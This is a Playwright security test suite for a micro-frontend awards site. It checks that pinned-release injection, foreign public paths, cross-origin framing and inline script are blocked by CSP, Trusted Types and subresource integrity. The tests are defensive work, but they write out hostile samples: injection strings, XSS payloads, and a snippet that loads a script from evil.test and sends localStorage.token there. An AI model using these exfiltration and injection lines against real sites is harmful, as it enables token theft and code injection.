import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { PUBLIC_ROUTES } from '@awards/shared/domain'
import type { Page } from '@playwright/test'
import { ACCOUNTS } from '../harness/accounts.ts'
import { openTab, settled, tokenOf, visit } from '../harness/browser.ts'
import { query } from '../harness/database.ts'
import { plant, untilInDiscovery } from '../harness/plant.ts'
import { localRelease } from '../harness/release.ts'
import { requiring } from '../harness/rerelease.ts'
import { findShown, screensOf } from '../journey/screens.ts'
import {
  arrived,
  deployed,
  follow,
  marked,
  panel,
  releaseLine,
  tabAt,
  usePlatform,
  type Platform,
} from './setup.ts'
import { eventually, until } from '../harness/until.ts'
import { fullBeyond, fullOnly, isFull } from '../harness/scale.ts'
import { expect, proves, test } from '../harness/test.ts'
import { copiesOf, ONE_EACH } from '../harness/runtimes.ts'

/*
 * Whatever is written into an address, a storage or a release: no byte of code comes from elsewhere.
 * The site lets anybody pin releases, as staging does; it has more to lose than production.
 */
let platform: Platform

usePlatform({ PINS: 'on' }, (started) => {
  platform = started
})

const HOSTILE: [string, string][] = [
  ['an address', 'mf-jury@https://evil.test/x.js'],
  ['an address without a scheme', 'mf-jury@//evil.test'],
  ['a path that climbs', 'mf-jury@..%2f..%2f'],
  ['a script', 'mf-jury@javascript:alert(1)'],
  ['a host that looks local', 'mf-jury@localhost.evil.com'],
  ['a host in the place of the remote', 'https://evil.test/x.js@1.0.0'],
  ['a version that does not exist', 'mf-jury@9.9.9'],
  ['half a character', '%E0%A4%A'],
  ['ten kilobytes', 'x'.repeat(10_000)],
]
const MESSAGE = /not a pinned release|is not published|no such part of the site/

const foreign = (requests: readonly string[], ...own: string[]) =>
  requests.filter((url) => !own.some((one) => url.startsWith(one)) && !/^(data|blob):/.test(url))

async function bootsAlone(page: Page, requests: readonly string[]) {
  await settled(page)
  await arrived(page)
  expect(foreign(requests, platform.proxy.url)).toEqual([])
}

for (const [index, [_what, value]] of HOSTILE.entries()) {
  test(
    `scenario 7: ${_what} in the address`,
    { ...proves('scenario 7'), ...fullBeyond(index) },
    async () => {
      const { page, watch, close } = await tabAt(platform, `/winners?mfe=${value}`)
      await bootsAlone(page, watch.requests)
      await page.getByText(MESSAGE).first().waitFor()
      expect(new URL(page.url()).search).toBe('')
      await close()
    },
  )
}

test(
  'scenario 7: all of them planted where the site keeps things',
  { ...proves('scenario 7'), ...fullOnly },
  async () => {
    const { page, watch, context, close } = await tabAt(platform, '/winners')
    await settled(page)
    const known = await page.evaluate(() => [localStorage, sessionStorage].flatMap(Object.keys))
    const likely = ['mfe', 'mfe-pins', 'mfe_uid', 'mfe_staff', 'pins', 'discovery']
    const names = [...new Set([...known, ...likely])].filter((name) => name !== 'language')
    for (const [, value] of HOSTILE) {
      // A page of this origin without the site's own code.
      await page.goto('/discovery.json')
      await page.evaluate(
        ([keys, text]) => {
          for (const key of keys) {
            localStorage.setItem(key, text)
            sessionStorage.setItem(key, text)
          }
        },
        [names, value] as const,
      )
      const short = encodeURIComponent(value).slice(0, 300)
      await context.addCookies(
        likely.map((name) => ({ name, value: short, url: platform.proxy.url })),
      )
      await page.goto('/winners')
      await bootsAlone(page, watch.requests)
    }
    await close()
  },
)

/** A site of somebody else's, on an origin of its own. */
async function otherSite(pageAt: (path: string) => string) {
  const server = createServer((request, response) => {
    response.writeHead(200, { 'content-type': 'text/html' })
    response.end(`<!doctype html><title>Other</title>${pageAt(request.url ?? '')}`)
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  // A test that fails leaves it open.
  server.unref()
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  const context = await visit(platform.browser, { ...platform.site, url })
  const close = async () => {
    await context.close()
    server.closeAllConnections()
    server.close()
  }
  return { url, context, close }
}

test(
  'scenario 7: another origin cannot frame the site with them',
  proves('scenario 7', 'security 21'),
  async () => {
    const { url, context, close } = await otherSite((path) => {
      const value = decodeURIComponent(path.slice(2))
      const address = `${platform.proxy.url}/home?mfe=${value}`.replaceAll('"', '%22')
      return `<iframe src="${address}"></iframe>`
    })
    for (const value of ['mf-jury@https://evil.test/x.js', 'mf-public@9.9.9']) {
      const { page, watch } = await openTab(context)
      await page.goto(`/?${encodeURIComponent(value)}`)
      // The browser shows an error in the place of the site, and runs nothing of it.
      await until(async () => page.frames()[1]?.url().split(':')[0], 'chrome-error')
      expect(watch.requests.filter((asked) => /\/(assets|mfe|mfe-b)\//.test(asked))).toEqual([])
      expect(foreign(watch.requests, url, platform.proxy.url, 'chrome-error:')).toEqual([])
      await page.close()
    }
    await close()
  },
)

test('a window that another site opens is out of its hand', proves('security 22'), async () => {
  const { context, close } = await otherSite(() => '')
  const { page } = await openTab(context)
  await page.goto('/')
  const [opened] = await Promise.all([
    context.waitForEvent('page'),
    page.evaluate((address) => {
      Object.assign(window, { opened: window.open(address) })
    }, `${platform.proxy.url}/home`),
  ])
  await settled(opened)
  expect(await opened.evaluate(() => window.opener === null)).toBe(true)
  await page.waitForFunction(() => (window as unknown as { opened: Window }).opened.closed)
  await close()
})

const reports = () =>
  query<{ directive: string; blocked: string; remote: string; version: string }>(
    platform.site,
    'select directive, blocked, remote, version from mfe_reports',
  )

test(
  'scenario 8: a release whose files lie elsewhere is refused',
  proves('scenario 8'),
  async () => {
    const release = marked('mf-public', '2.0.1', {
      manifest: ({ metaData }) => void (metaData.publicPath = 'https://evil.test/'),
    })
    const { status, body } = await platform.registry.publish(release)
    expect({ status, body }).toMatchObject({
      status: 422,
      body: { problems: [{ gate: 'public_path_not_auto', provided: 'https://evil.test/' }] },
    })
  },
)

test(
  'scenario 8: planted behind the registry, it is not loaded',
  { ...proves('scenario 8'), ...fullOnly },
  async () => {
    const good = marked('mf-public', '2.0.0')
    await deployed(platform, good)
    const bad = marked('mf-public', '2.0.2', {
      manifest: ({ metaData }) => void (metaData.publicPath = 'https://evil.test/'),
      edits: [
        {
          file: /^remoteEntry\.js$/,
          change: (text) => `__webpack_public_path__="https://evil.test/";${text}`,
        },
      ],
    })
    await plant(platform.site, bad, good)
    const { page, watch, close } = await tabAt(platform, '/winners')
    await releaseLine(page, '2.0.0').waitFor()
    expect(platform.proxy.asked(/\/2\.0\.2\/mf-manifest/).length).toBeGreaterThan(0)
    expect(foreign(watch.requests, platform.proxy.url)).toEqual([])
    await close()
  },
)

/** A release that fetches code and more from elsewhere, as one with a stolen dependency would. */
const REACHES_OUT = `
  const go = (work) => { try { work() } catch {} };
  go(() => { const s = document.createElement('script'); s.src = 'https://evil.test/x.js'; document.head.append(s) });
  go(() => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://evil.test/x.css'; document.head.append(l) });
  go(() => { fetch('https://evil.test/secret?' + localStorage.token).catch(() => {}) });
  go(() => { navigator.sendBeacon('https://evil.test/secret') });
  go(() => { new Image().src = 'https://evil.test/x.png' });
  go(() => { globalThis.planted = eval('1') });
`

test(
  'scenario 8: code of a release reaches nobody else, and the browser tells of it',
  proves('scenario 8', 'security 23'),
  async () => {
    await query(platform.site, 'delete from mfe_reports')
    await deployed(platform, marked('mf-public', '2.0.3', { atImport: REACHES_OUT }))
    const { page, watch, close } = await tabAt(platform, '/winners', {
      token: await tokenOf(platform.site, ACCOUNTS[0]),
    })
    await releaseLine(page, '2.0.3').waitFor()
    const sent: string[] = []
    page.on('requestfinished', (request) => sent.push(request.url()))
    await settled(page)
    expect(foreign(sent, platform.proxy.url)).toEqual([])
    expect(await page.evaluate(() => 'planted' in globalThis)).toBe(false)
    await until(async () => watch.violations.length > 0, true)
    const told = await eventually(reports, (list) =>
      list.some(({ remote, blocked }) => remote === 'mf-public' && blocked.includes('evil.test')),
    )
    expect(told).toContainEqual(
      expect.objectContaining({ directive: 'connect-src', remote: 'mf-public', version: '2.0.3' }),
    )
    await close()
  },
)

test(
  'scenario 10: a release that needs another React is refused, with both sides named',
  proves('scenario 10'),
  async () => {
    const release = marked('mf-entrant', '2.0.1', requiring('react', '^20.0.0'))
    const { status, body } = await platform.registry.publish(release)
    expect({ status, body }).toMatchObject({
      status: 422,
      body: {
        problems: [
          {
            gate: 'shared_unsatisfied',
            subject: 'react',
            wanted: '^20.0.0',
            provided: expect.stringMatching(/^19\./),
          },
        ],
      },
    })
  },
)

test(
  'scenario 10: forced in, it fails alone',
  { ...proves('scenario 10'), ...fullOnly },
  async () => {
    const token = await tokenOf(platform.site, ACCOUNTS[0])
    const bad = marked('mf-entrant', '2.0.2', requiring('react', '^20.0.0'))
    await deployed(platform, marked('mf-public', '2.0.4'))
    await plant(platform.site, bad, localRelease('mf-entrant'))
    // Without a version before.
    const alone = [{ version: bad.version, traffic: 100, default: true }]
    await query(
      platform.site,
      "update mfe_deployments set versions = $1 where channel = 'production' and name = 'mf-entrant'",
      [JSON.stringify(alone)],
    )
    const { version: before } = localRelease('mf-entrant')
    await untilInDiscovery(platform.site, 'mf-entrant', before, false)
    const { page, close } = await tabAt(platform, '/account', { token })
    await panel(page).waitFor()
    await follow(page, '/faq')
    await releaseLine(page, '2.0.4').waitFor()
    // Hooks of the other remote: the search of this page keeps what is typed in the address.
    await page.getByRole('searchbox').fill('fee')
    await page.waitForURL('**/faq?q=fee')
    expect(await copiesOf(page)).toEqual(ONE_EACH)
    await deployed(platform, marked('mf-entrant', '2.0.3'))
    await close()
  },
)

/** Looks at pages as one person, and gives what the policy refused on them. */
async function crawl(addresses: readonly string[], who?: string): Promise<string[]> {
  const token = who && (await tokenOf(platform.site, who))
  const context = await visit(platform.browser, platform.site, token)
  const { page, watch } = await openTab(context)
  for (const address of addresses) {
    const answer = await page.goto(address)
    await settled(page)
    const headers = answer?.headers() ?? {}
    const policy = headers['content-security-policy'] ?? ''
    expect({ address, policy }).toEqual({
      address,
      policy: expect.stringMatching(/script-src 'self'(;|$)/),
    })
    expect(policy).not.toContain('unsafe-')
    expect(policy).toContain("require-trusted-types-for 'script'")
    expect(policy).toContain("frame-ancestors 'none'")
    expect(policy).toContain('report-uri /api/platform/reports')
    expect(headers['x-content-type-options']).toBe('nosniff')
  }
  await context.close()
  return watch.violations
}

const everyFifth = (addresses: string[]) =>
  isFull ? addresses : addresses.filter((_, index) => index % 5 === 0)

test(
  'scenario 18: a strict policy on every page, and nothing that breaks it',
  { ...proves('scenario 18', 'security 16', 'security 17'), ...fullOnly },
  async () => {
    // A hostile release of an earlier test is no visitor's any more.
    await deployed(platform, marked('mf-public', '2.0.9'))
    await query(platform.site, 'delete from mfe_reports')
    const screens = screensOf(await findShown(platform.site))
    const people = [...new Set(screens.map(({ who }) => who))]
    const found: string[] = []
    for (const person of people) {
      const own = screens.filter(({ who }) => who === person)
      const others = person ? [] : PUBLIC_ROUTES.map(({ path }) => path)
      const plain = others.filter((path) => !path.includes(':'))
      const addresses = new Set([...own.map(({ address }) => address), ...plain])
      // The screens are opened by the tests of accessibility too, which look for violations.
      found.push(...(await crawl(everyFifth([...addresses]), person)))
    }
    expect(found).toEqual([])
    expect(await reports()).toEqual([])
  },
)

test(
  'scenario 18: planted HTML and scripts are refused by the page itself',
  proves('scenario 18', 'security 17'),
  async () => {
    const { page, close } = await tabAt(platform, '/winners')
    await settled(page)
    const refused = await page.evaluate(async () => {
      // What the debugger itself calls may do more than a page; what a timer calls may not.
      await new Promise((next) => setTimeout(next))
      const attempts: Record<string, () => unknown> = {
        html: () => (document.body.innerHTML += '<img src=x onerror="window.planted=1">'),
        range: () => document.createRange().createContextualFragment('<svg onload=planted=1>'),
        script: () => (document.createElement('script').src = 'https://evil.test/x.js'),
        api: () => (document.createElement('script').src = '/api/index/winnerList'),
        text: () => (document.createElement('script').textContent = 'window.planted=1'),
        code: () => Function('window.planted=1')(),
        timer: () => setTimeout('window.planted=1'),
        policy: () =>
          (
            window as unknown as {
              trustedTypes: { createPolicy(name: string, rules: object): unknown }
            }
          ).trustedTypes.createPolicy('mine', { createHTML: (text: string) => text }),
      }
      return Object.entries(attempts).map(([name, attempt]) => {
        try {
          attempt()
          return `${name}: done`
        } catch (error) {
          return `${name}: ${(error as Error).name}`
        }
      })
    })
    expect(refused.filter((one) => one.endsWith('done'))).toEqual([])
    await page.waitForTimeout(200)
    expect(await page.evaluate(() => 'planted' in window)).toBe(false)
    await arrived(page)
    await close()
  },
)

test(
  'a script of the site itself is not run without its digest',
  proves('security 28'),
  async () => {
    const { page, close } = await tabAt(platform, '/winners')
    await settled(page)
    // What the debugger calls is not held to Trusted Types, so that nothing else refuses these tags.
    const outcomes = await page.evaluate(async () => {
      const known = [...document.scripts].find(({ src, integrity }) => src && integrity)
      if (!known) return ['no script of the page has a digest']
      const { src, integrity } = known
      const attempts: Partial<HTMLScriptElement>[] = [
        { src, integrity, crossOrigin: 'anonymous' },
        { src, crossOrigin: 'anonymous' },
        { src, integrity },
        { src },
      ]
      return Promise.all(
        attempts.map(
          (attributes) =>
            new Promise<string>((done) => {
              const script = Object.assign(document.createElement('script'), attributes)
              script.addEventListener('load', () => done('run'))
              script.addEventListener('error', () => done('blocked'))
              document.head.append(script)
            }),
        ),
      )
    })
    expect(outcomes).toEqual(['run', 'blocked', 'blocked', 'blocked'])
    await close()
  },
)
